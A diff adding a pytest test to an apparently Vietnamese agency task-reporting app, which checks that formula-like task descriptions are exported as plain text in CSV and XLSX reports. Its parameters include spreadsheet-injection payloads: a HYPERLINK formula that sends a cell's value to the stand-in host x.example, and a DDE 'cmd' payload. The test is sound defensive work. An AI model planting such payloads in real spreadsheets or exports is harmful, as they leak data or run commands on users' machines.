@@ -67,3 +67,19 @@ def test_cli_report(runner, session, data, tmp_path):
     assert "Công khai ngân sách" in text and "Việc khác" in text and "tiêm chủng" in text  # lead or coordinator
     bad = runner.invoke(args=["reports", "tasks", "--out", str(out), "--agency", "Sở Ma"])
     assert bad.exit_code == 1 and "Sở Ma" in bad.output
+
+
+@pytest.mark.parametrize("wording", ['=HYPERLINK("http://x.example/?"&A1,"Bấm")', "+1+cmd|' /C calc'!A0",
+                                     "-2+3", "@SUM(1,1)"])
+def test_a_wording_that_looks_like_a_formula_stays_text(client, session, make_agency, make_task, make_user, wording):
+    lead = make_agency("Sở Y tế")
+    make_task(lead=lead, due=today_vn(), description=wording)
+    office = make_user(Role.OFFICE)
+    session.commit()
+    client.post("/login", data={"email": office.email, "password": PASSWORD})
+    csv_text = client.get("/reports/?format=csv").data.decode("utf-8-sig")
+    assert f",'{wording[:5]}" in csv_text.replace('"', "") or f"'{wording[:5]}" in csv_text
+    assert "," + wording[:5] not in csv_text.replace('"', "")
+    sheet = load_workbook(io.BytesIO(client.get("/reports/?format=xlsx").data))["Biểu tổng hợp"]
+    cell = next(r[1] for r in sheet.iter_rows(min_row=5) if str(r[1].value).startswith(wording[:5]))
+    assert cell.data_type == "s"  # text, not a formula Excel would run
